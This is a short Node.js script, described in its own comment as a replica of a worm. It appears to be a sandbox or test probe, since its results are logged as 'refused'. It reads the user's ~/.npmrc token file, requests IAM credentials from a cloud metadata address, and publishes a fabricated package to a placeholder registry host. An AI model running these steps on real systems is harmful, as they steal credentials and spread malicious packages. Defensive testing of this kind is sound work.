// Replica of a worm: cloud metadata, a sibling's package.json, then publishing with the user's own token.
const { spawnSync } = require('child_process'), fs = require('fs'), http = require('http'), os = require('os')
try { console.log(fs.readFileSync(os.homedir() + '/.npmrc').length) } catch (error) { console.log('refused', error.code) }
http.get('http://@METADATA@/latest/meta-data/iam/', answer => answer.resume()).on('error', error => console.log('refused', error.code))
const folder = fs.mkdtempSync(os.tmpdir() + '/sibling-')
fs.writeFileSync(folder + '/package.json', JSON.stringify({ name: 'sibling', version: '9.9.9' }))
spawnSync('npm', ['publish', '--registry', 'http://@SINK@:8080/', '--fetch-retries', '0', '--//@SINK@:8080/:_authToken=x'], { cwd: folder })
